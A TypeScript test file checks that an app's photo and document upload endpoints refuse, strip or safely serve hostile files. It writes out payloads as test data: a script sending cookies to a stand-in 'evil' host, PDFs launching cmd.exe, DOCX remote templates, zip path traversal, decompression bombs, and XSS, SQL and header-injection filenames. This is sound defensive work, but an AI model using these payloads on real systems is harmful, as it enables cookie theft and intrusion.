import { readdir } from 'node:fs/promises'
import { join } from 'node:path'
import sharp from 'sharp'
import { beforeAll, describe, expect, test } from 'vitest'
import { accounts } from '#domains/accounts/server/routes.ts'
import { type SampleAccount } from '#domains/accounts/server/samples.ts'
import { workforceRoutes } from '#domains/workforce/contract.ts'
import { workforce } from '#domains/workforce/server/routes.ts'
import { imageTypeOf } from '#platform/server/files/images.ts'
import { eicar } from '#platform/server/testing/clamd.ts'
import {
  docxBomb,
  docxRelatedTo,
  docxWithLists,
  gifOf,
  pngBomb,
  pngChunk,
  pngOf,
  withRemark,
} from '#platform/server/testing/hostile-files.ts'
import { imageOf } from '#platform/server/testing/image-of.ts'
import { sampleCompound, sampleDoc, sampleDocx, samplePdf, sampleZip } from '#platform/server/testing/sample-files.ts'
import { sampleTeam } from '#domains/workforce/server/samples.ts'
import { openWorld } from '#platform/server/testing/world.ts'
import { documentRoutes } from '../contract.ts'
import { documentTypes, maxDocumentBytes } from '../rules.ts'
import { documents } from './routes.ts'

const world = await openWorld([...accounts, ...workforce, ...documents])
const folder = join(world.services.config.dataDir, 'files')
const { png, jpg, pdf, doc, docx } = documentTypes
const gif = 'image/gif'

let manager: SampleAccount
let worker: SampleAccount
beforeAll(async () => {
  ;({ manager, worker } = await sampleTeam(world))
})

const painted = (format: 'png' | 'jpeg' | 'gif') =>
  sharp({ create: { width: 60, height: 40, channels: 3, background: '#2f6f62' } })
    .withExif({ IFD0: { Artist: 'GPS 50.8467 4.3525' }, IFD3: { GPSLatitude: '50/1 50/1 48/1' } })
    .toFormat(format)
    .toBuffer()
const [pngBytes, jpgBytes, gifBytes] = [await painted('png'), await painted('jpeg'), await painted('gif')]
const script = '<script>fetch("//evil/"+document.cookie)</script>'
const svg = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="file:///etc/passwd"/></svg>`,
)
const html = Buffer.from(`<!doctype html>${script}`)
const program = Buffer.from('MZ\u0090\u0000\u0003This program cannot be run in DOS mode', 'latin1')
const workbook = sampleZip({ '[Content_Types].xml': '', 'xl/workbook.xml': '' })
const installer = sampleCompound(['\u4840\u3F3F\u4577', '\u0005SummaryInformation'])
const fetching =
  '<Relationship Id="rId1" Type="http://x/attachedTemplate" Target="https://evil/a.dotm" TargetMode="External"/>'
const behind = (bytes: Uint8Array, hung: Uint8Array | string) => Buffer.concat([bytes, Buffer.from(hung as string)])
const padded = (bytes: Uint8Array, size: number) => behind(bytes, Buffer.alloc(size - bytes.length, ' '))
const fiveMegabytes = 5 * 1024 * 1024

/** The outcome for a file: stored, or refused with a status and a code. */
type Outcome = 'kept' | 'type' | 'damaged' | 'active' | 'large'
const answers: Readonly<Record<Outcome, readonly [status: number, code?: string]>> = {
  kept: [201],
  type: [415, 'UNSUPPORTED_TYPE'],
  damaged: [422, 'VALIDATION'],
  active: [422, 'VALIDATION'],
  large: [413, 'PAYLOAD_TOO_LARGE'],
}

type Row = readonly [what: string, bytes: Uint8Array, name: string, type: string, picture: Outcome, document: Outcome]
const rows: readonly Row[] = [
  // Name, content and declared type match.
  ['a PNG', pngBytes, 'a.png', png, 'kept', 'kept'],
  ['a JPG', jpgBytes, 'a.jpg', jpg, 'kept', 'kept'],
  ['a JPG by its longer ending', jpgBytes, 'a.JPEG', jpg, 'kept', 'kept'],
  ['a GIF', gifBytes, 'a.gif', gif, 'kept', 'type'],
  ['a PDF', samplePdf(), 'a.pdf', pdf, 'type', 'kept'],
  ['a DOC', sampleDoc(), 'a.doc', doc, 'type', 'kept'],
  ['a DOCX', sampleDocx(), 'a.docx', docx, 'type', 'kept'],
  // They do not match.
  ['a PNG called JPG', pngBytes, 'a.jpg', png, 'kept', 'type'],
  ['a PNG declared as JPG', pngBytes, 'a.png', jpg, 'type', 'type'],
  ['a JPG declared as PNG', jpgBytes, 'a.jpg', png, 'type', 'type'],
  ['a GIF declared as PNG', gifBytes, 'a.png', png, 'type', 'type'],
  ['a PNG declared as GIF', pngBytes, 'a.gif', gif, 'type', 'type'],
  ['a PDF called PNG', samplePdf(), 'a.png', png, 'type', 'type'],
  ['a PDF declared as nothing', samplePdf(), 'a.pdf', 'application/octet-stream', 'type', 'type'],
  ['a DOCX called DOC', sampleDocx(), 'a.doc', doc, 'type', 'type'],
  ['a DOC called DOCX', sampleDoc(), 'a.docx', docx, 'type', 'type'],
  ['an SVG', svg, 'a.svg', 'image/svg+xml', 'type', 'type'],
  ['an SVG called PNG', svg, 'a.png', png, 'type', 'type'],
  ['an SVG called JPG', svg, 'a.jpg', jpg, 'type', 'type'],
  ['a page', html, 'a.html', 'text/html', 'type', 'type'],
  ['a page called PDF', html, 'a.pdf', pdf, 'type', 'type'],
  ['a page called DOC', html, 'a.doc', doc, 'type', 'type'],
  ['a program', program, 'a.exe', 'application/x-msdownload', 'type', 'type'],
  ['a program called DOC', program, 'a.doc', doc, 'type', 'type'],
  ['a program called JPG', program, 'a.jpg', jpg, 'type', 'type'],
  ['an archive called DOCX', sampleZip({ 'a.exe': 'MZ' }), 'a.docx', docx, 'type', 'type'],
  ['an archive called DOC', sampleZip({ 'a.exe': 'MZ' }), 'a.doc', doc, 'type', 'type'],
  ['a workbook called DOCX', workbook, 'a.docx', docx, 'type', 'type'],
  ['a workbook called DOC', workbook, 'a.doc', doc, 'type', 'type'],
  ['a workbook of old called DOC', sampleCompound(['Workbook']), 'a.doc', doc, 'type', 'type'],
  ['an installer called DOC', installer, 'a.doc', doc, 'type', 'type'],
  ['rich text called DOC', Buffer.from('{\\rtf1\\object'), 'a.doc', doc, 'type', 'type'],
  ['a TIFF called PNG', Buffer.from('II*\u0000'), 'a.png', png, 'type', 'type'],
  ['a WebP called PNG', Buffer.from('RIFF1234WEBPVP8 '), 'a.png', png, 'type', 'type'],
  ['a HEIF called JPG', Buffer.from('\u0000\u0000\u0000\u0018ftypheic'), 'a.jpg', jpg, 'type', 'type'],
  ['two endings', samplePdf(), 'a.pdf.exe', pdf, 'type', 'type'],
  ['no ending', samplePdf(), 'pdf', pdf, 'type', 'type'],
  ['a type with a parameter', samplePdf(), 'a.pdf', `${pdf}; charset=utf-7`, 'type', 'kept'],
  // Files that are valid as two types.
  ['a JPG with a page behind it', behind(jpgBytes, html), 'a.jpg', jpg, 'kept', 'kept'],
  ['a JPG with a page in its remark', withRemark(jpgBytes, script), 'a.jpg', jpg, 'kept', 'kept'],
  ['a JPG with an archive behind it', behind(jpgBytes, sampleZip({ 'a.jar': 'x' })), 'a.jpg', jpg, 'kept', 'kept'],
  ['a PNG with a page behind it', behind(pngBytes, html), 'a.png', png, 'kept', 'kept'],
  ['a GIF that is a script', behind(gifBytes, `;/*${script}*/alert(1)`), 'a.gif', gif, 'kept', 'type'],
  ['a GIF that is nothing but a script', Buffer.from('GIF89a/*\u0001*/=1;alert(1)'), 'a.gif', gif, 'damaged', 'type'],
  ['a page before a PDF', behind(html, samplePdf()), 'a.pdf', pdf, 'type', 'type'],
  ['a PDF with a page behind it', behind(samplePdf(), html), 'a.pdf', pdf, 'type', 'kept'],
  ['a PDF with an archive behind it', behind(samplePdf(), sampleZip({ 'a.exe': 'MZ' })), 'a.pdf', pdf, 'type', 'kept'],
  ['a program before a DOCX', behind(program, sampleDocx()), 'a.docx', docx, 'type', 'type'],
  ['a DOCX with a page behind it', behind(sampleDocx(), html), 'a.docx', docx, 'type', 'type'],
  ['a PNG with text in it', pngOf([pngChunk('tEXt', Buffer.from(script))]), 'a.png', png, 'damaged', 'damaged'],
  // Files with active content: a PDF is stored unchanged, because it is only ever downloaded or shown in a sandbox.
  ['a PDF with a script', samplePdf('2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj'), 'a.pdf', pdf, 'type', 'kept'],
  [
    'a PDF that acts when opened',
    samplePdf('<</OpenAction<</S/URI/URI(http://evil)>>>>'),
    'a.pdf',
    pdf,
    'type',
    'kept',
  ],
  ['a PDF that starts a program', samplePdf('<</S/Launch/F(cmd.exe)>>'), 'a.pdf', pdf, 'type', 'kept'],
  ['a PDF with a file in it', samplePdf('<</Type/EmbeddedFile>>stream\nMZ\nendstream'), 'a.pdf', pdf, 'type', 'kept'],
  ['a PDF with the text by which scanners are tried', samplePdf(eicar), 'a.pdf', pdf, 'type', 'kept'],
  ['that text alone', Buffer.from(eicar), 'a.pdf', pdf, 'type', 'type'],
  ['a DOCX with macros', sampleDocx({ 'word/vbaProject.bin': 'x' }), 'a.docx', docx, 'type', 'type'],
  [
    'a DOCX with macros elsewhere',
    docxRelatedTo('vbaProject', 'media/image1.png', 'Internal'),
    'a.docx',
    docx,
    'type',
    'active',
  ],
  ['a DOCX with ActiveX', sampleDocx({ 'word/activeX/activeX1.bin': 'x' }), 'a.docx', docx, 'type', 'type'],
  [
    'a DOCX with a template from elsewhere',
    docxRelatedTo('attachedTemplate', 'https://evil/a.dotm'),
    'a.docx',
    docx,
    'type',
    'active',
  ],
  [
    'a DOCX with a template from a share',
    docxRelatedTo('attachedTemplate', '\\\\evil\\a.dotm'),
    'a.docx',
    docx,
    'type',
    'active',
  ],
  [
    'a DOCX with a template in signs',
    docxRelatedTo('attached&#84;emplate', 'https://evil/a'),
    'a.docx',
    docx,
    'type',
    'active',
  ],
  [
    'a DOCX with an object from elsewhere',
    docxRelatedTo('oleObject', 'mhtml:http://evil/a!x-usc:http://evil/a'),
    'a.docx',
    docx,
    'type',
    'active',
  ],
  [
    'a DOCX with a template from elsewhere in a list that is written large',
    docxWithLists({ 'settings.xml.RELS': fetching }),
    'a.docx',
    docx,
    'type',
    'active',
  ],
  [
    'a DOCX with a template from elsewhere behind the end of a tag within a value',
    docxWithLists({ 'settings.xml.rels': fetching.replace('rId1', 'a>b') }),
    'a.docx',
    docx,
    'type',
    'active',
  ],
  [
    'a DOCX with a template from elsewhere behind a value that looks like another',
    docxWithLists({ 'settings.xml.rels': fetching.replace('rId1', " Type='a' TargetMode=''") }),
    'a.docx',
    docx,
    'type',
    'active',
  ],
  [
    'T22 a DOCX of which two lists of relationships together are too long',
    docxWithLists({ 'a.rels': ' '.repeat(600_000), 'b.rels': ' '.repeat(600_000) }),
    'a.docx',
    docx,
    'type',
    'damaged',
  ],
  [
    'T22 a DOCX with more relationships than a text has',
    docxWithLists({ 'a.rels': '<a/>'.repeat(6000), 'b.rels': '<a/>'.repeat(6000) }),
    'a.docx',
    docx,
    'type',
    'damaged',
  ],
  [
    'a DOCX of a template of one’s own',
    docxRelatedTo('attachedTemplate', 'file:///C:\\Users\\An\\Normal.dotm'),
    'a.docx',
    docx,
    'type',
    'kept',
  ],
  ['a DOCX with a link', docxRelatedTo('hyperlink', 'https://example.org/'), 'a.docx', docx, 'type', 'kept'],
  ['a DOC with macros', sampleCompound(['WordDocument'], ['VBA'], 'Macros'), 'a.doc', doc, 'type', 'active'],
  // Archives that are not Word documents.
  [
    'a DOCX without its text',
    sampleZip({ '[Content_Types].xml': '', 'word/styles.xml': '' }),
    'a.docx',
    docx,
    'type',
    'type',
  ],
  ['a DOCX that leads out', sampleDocx({ '../../etc/cron.d/x': 'x' }), 'a.docx', docx, 'type', 'type'],
  ['a DOCX that leads out the other way', sampleDocx({ '..\\..\\x.exe': 'x' }), 'a.docx', docx, 'type', 'type'],
  ['a DOCX that leads to the root', sampleDocx({ '/etc/passwd': 'x' }), 'a.docx', docx, 'type', 'type'],
  ['a DOCX with two texts', sampleDocx({ 'Word/Document.xml': 'x' }), 'a.docx', docx, 'type', 'type'],
  ['T22 a DOCX that says it becomes ten gigabytes', sampleDocx({}, 0xffffffff), 'a.docx', docx, 'type', 'type'],
  ['T22 a DOCX that becomes more than it says', docxBomb(40_000_000), 'a.docx', docx, 'type', 'damaged'],
  // Images that would be huge.
  ['T22 a PNG of 900 million pixels', pngBomb(), 'a.png', png, 'damaged', 'damaged'],
  ['T22 a GIF of 4 thousand million pixels', gifOf(1, 65_535, 65_535), 'a.gif', gif, 'damaged', 'type'],
  ['T22 a GIF of ten thousand frames', gifOf(10_000, 8), 'a.gif', gif, 'kept', 'type'],
  // Truncated files.
  ['nothing as PNG', Buffer.alloc(0), 'a.png', png, 'type', 'type'],
  ['nothing as PDF', Buffer.alloc(0), 'a.pdf', pdf, 'type', 'type'],
  ['nothing as DOCX', Buffer.alloc(0), 'a.docx', docx, 'type', 'type'],
  ['half a PNG', pngBytes.subarray(0, pngBytes.length / 2), 'a.png', png, 'damaged', 'damaged'],
  ['half a JPG', jpgBytes.subarray(0, jpgBytes.length - 40), 'a.jpg', jpg, 'damaged', 'damaged'],
  ['the head of a JPG', jpgBytes.subarray(0, 3), 'a.jpg', jpg, 'damaged', 'damaged'],
  ['half a PDF', samplePdf('x'.repeat(500)).subarray(0, 300), 'a.pdf', pdf, 'type', 'damaged'],
  ['half a DOC', sampleDoc().subarray(0, 600), 'a.doc', doc, 'type', 'type'],
  ['half a DOCX', sampleDocx().subarray(0, 100), 'a.docx', docx, 'type', 'type'],
  // T20 Sizes.
  ['five megabytes', padded(jpgBytes, fiveMegabytes), 'a.jpg', jpg, 'kept', 'kept'],
  ['a byte more', padded(jpgBytes, fiveMegabytes + 1), 'a.jpg', jpg, 'large', 'kept'],
  ['ten megabytes', padded(samplePdf(), maxDocumentBytes), 'a.pdf', pdf, 'type', 'kept'],
  ['a byte more than ten', padded(samplePdf(), maxDocumentBytes + 1), 'a.pdf', pdf, 'type', 'large'],
]

const fileOf = (bytes: Uint8Array, type: string) => new Blob([bytes as Uint8Array<ArrayBuffer>], { type })
const put = (bytes: Uint8Array, type: string) =>
  world.call(
    workforceRoutes.setWorkerImage,
    { params: { id: worker.accountId }, query: {}, file: fileOf(bytes, type) },
    manager,
  )
const add = (bytes: Uint8Array, name: string, type: string) =>
  world.call(
    documentRoutes.addDocument,
    { query: { name, workerId: worker.accountId }, file: fileOf(bytes, type) },
    manager,
  )
const content = (id: string) => world.call(documentRoutes.readDocumentContent, { params: { id } }, manager)
const stored = async () => {
  const all = await readdir(folder, { recursive: true, withFileTypes: true }).catch(() => [])
  return all.filter((one) => one.isFile()).map(({ name }) => name)
}
const filed = () =>
  world.sql<{ file: string }>`select file from documents where organisation_id = ${worker.organisationId}`
const pictured = async () =>
  (await world.sql<{ image: string | null }>`select image from workers where id = ${worker.accountId}`)[0]?.image
const asFile = {
  'x-content-type-options': 'nosniff',
  'content-security-policy': expect.stringMatching(/default-src 'none'.*sandbox/),
  'content-disposition': expect.stringMatching(/^attachment; filename="[ -~]*"; filename\*=UTF-8''[!-~]*$/),
}
const strange = ['<script>', 'GPS 50.8467', 'Exif', 'a.jar', 'alert(1)']
const holds = (bytes: Buffer) => strange.filter((words) => bytes.includes(words))

test('T19 T21 the set has at least sixty files, each with its own name', () => {
  expect(rows.length).toBeGreaterThanOrEqual(60)
  expect(new Set(rows.map(([what]) => what)).size).toBe(rows.length)
})

describe('T19 T21 T22 as the photo of a worker', () => {
  test.each(rows)('%s', async (_, bytes, _name, type, outcome) => {
    const before = { files: await stored(), image: await pictured() }
    const { status, problem, body } = await put(bytes, type)
    if (outcome !== 'kept') {
      expect([status, problem.code]).toEqual(answers[outcome])
      expect({ files: await stored(), image: await pictured() }).toEqual(before)
      return
    }
    expect(status).toBe(200)
    const image = await pictured()
    expect(image).toMatch(/^[0-9a-f]{48}$/)
    expect(await stored()).toContain(image)
    const given = await world.send('GET', body.image as string, undefined, manager)
    expect(given.headers).toMatchObject({ ...asFile, 'content-type': 'image/webp' })
    expect(holds(given.bytes)).toEqual([])
    expect(await imageOf(given.bytes).metadata()).toMatchObject({ format: 'webp', width: 512, height: 512 })
  })
})

describe('T19 T21 T22 as a document', () => {
  test.each(rows)('%s', async (_, bytes, name, type, _picture, outcome) => {
    const before = { files: (await stored()).length, rows: (await filed()).length }
    const { status, problem, body } = await add(bytes, name, type)
    const after = { files: (await stored()).length, rows: (await filed()).length }
    if (outcome !== 'kept') {
      expect([status, problem.code]).toEqual(answers[outcome])
      expect(problem.detail).toMatch(
        outcome === 'active' ? /macros or linked content/ : outcome === 'damaged' ? /damaged/ : /\w/,
      )
      expect(after).toEqual(before)
      return
    }
    expect([status, body.name]).toEqual([201, name])
    expect(after).toEqual({ files: before.files + 1, rows: before.rows + 1 })
    const given = await content(body.id)
    expect(given.headers).toMatchObject({ ...asFile, 'content-type': body.type })
    if (!imageTypeOf(bytes)) return expect(given.bytes.equals(Buffer.from(bytes))).toBe(true)
    expect(holds(given.bytes)).toEqual([])
    expect(await imageOf(given.bytes).metadata()).toMatchObject({ width: 60, height: 40 })
  })
})

describe('T21 names', () => {
  const long = 'é'.repeat(300)
  test.each([
    ['../../x.pdf', 'x.pdf'],
    ['..\\x.pdf', 'x.pdf'],
    ['/etc/passwd.pdf', 'passwd.pdf'],
    ['C:\\Windows\\system32\\x.pdf', 'x.pdf'],
    ['\\\\share\\x.pdf', 'x.pdf'],
    ['<img src=x onerror=alert(1)>.pdf', '<img src=x onerror=alert(1)>.pdf'],
    ['a";x.html.pdf', 'a";x.html.pdf'],
    ["a'; drop table documents;--.pdf", "a'; drop table documents;--.pdf"],
    ['=1+1.pdf', '=1+1.pdf'],
    ['{{7*7}}${7*7}%s.pdf', '{{7*7}}${7*7}%s.pdf'],
    ['a\r\nSet-Cookie: x=1.pdf', 'aSet-Cookie: x=1.pdf'],
    ['a\tb\u0085c.pdf', 'abc.pdf'],
    ['invoice\u202Efdp.exe.pdf', 'invoicefdp.exe.pdf'],
    ['a\u200B\uFEFF\u2066b.pdf', 'ab.pdf'],
    [`${long}.pdf`, `${long.slice(0, 98)}.pdf`],
    ['CON.pdf', 'CON.pdf'],
    ['lpt1.pdf', 'lpt1.pdf'],
    ['a:b.pdf', 'a:b.pdf'],
    [' .. .pdf', '.. .pdf'],
    ['а.pdf', 'а.pdf'],
    ['合同 عقد חוזה 😀.pdf', '合同 عقد חוזה 😀.pdf'],
  ])('%j is stored as %j, under a key that contains nothing of it', async (name, shown) => {
    const { status, body } = await add(samplePdf(), name, pdf)
    expect([status, body.name]).toEqual([201, shown])
    const { headers } = await content(body.id)
    expect(headers).toMatchObject(asFile)
    expect(headers['set-cookie']).toBeUndefined()
    const [, plain = '', whole = ''] =
      /^attachment; filename="([^"\\]*)"; filename\*=UTF-8''(.*)$/.exec(String(headers['content-disposition'])) ?? []
    expect(decodeURIComponent(whole)).toBe(shown.replace(/[/\\]/g, ''))
    expect(plain).not.toMatch(/[%;/\\]/)
    for (const { file } of await filed()) expect(file).toMatch(/^[0-9a-f]{48}$/)
  })

  test.each([
    ['without a name', ''],
    ['that is blank', '   '],
    ['that is only an ending', '.pdf'],
    ['that is only dots and an ending', '../.pdf'],
    ['with a nought in it', 'a\u0000.pdf'],
    ['whose ending lies before what is not seen', 'a.pdf\u0000.exe'],
    ['of a thousand letters and an ending', `${'x'.repeat(1000)}.pdf`],
  ])('%s is refused and leaves nothing behind', async (_, name) => {
    const before = [(await stored()).length, (await filed()).length]
    const { status } = await add(samplePdf(), name, pdf)
    expect([415, 422]).toContain(status)
    expect([(await stored()).length, (await filed()).length]).toEqual(before)
  })
})
